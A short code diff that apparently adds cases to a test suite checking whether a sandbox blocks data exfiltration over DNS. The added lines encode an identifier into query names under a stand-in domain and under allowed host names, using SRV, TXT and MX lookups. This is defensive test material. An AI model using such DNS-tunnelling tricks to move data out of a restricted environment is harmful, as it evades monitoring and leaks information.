@@ -53,6 +53,14 @@ for turn in range(2):
       "data in questions of rare types",
       `[dns("leak-" + ID + ".zone.example", t, limit=1) for t in ("MX", "NULL", "ANY", "SRV", "CNAME")]`,
     ),
+    exfiltration(
+      "data in front of a service of a name that is not allowed",
+      `dns("_leak-" + ID + "._tcp.leak-" + ID + ".zone.example", "SRV")`,
+    ),
+    exfiltration(
+      "data under a name that is allowed alone",
+      `dns("leak-" + ID + "." + HOST, "TXT"); dns("leak-" + ID + "." + NAME, "MX")`,
+    ),
     exfiltration("data in a question over TCP", `dns("leak-" + ID + ".zone.example", over="tcp", limit=2)`),
     exfiltration(
       "data in a question to a public name server",
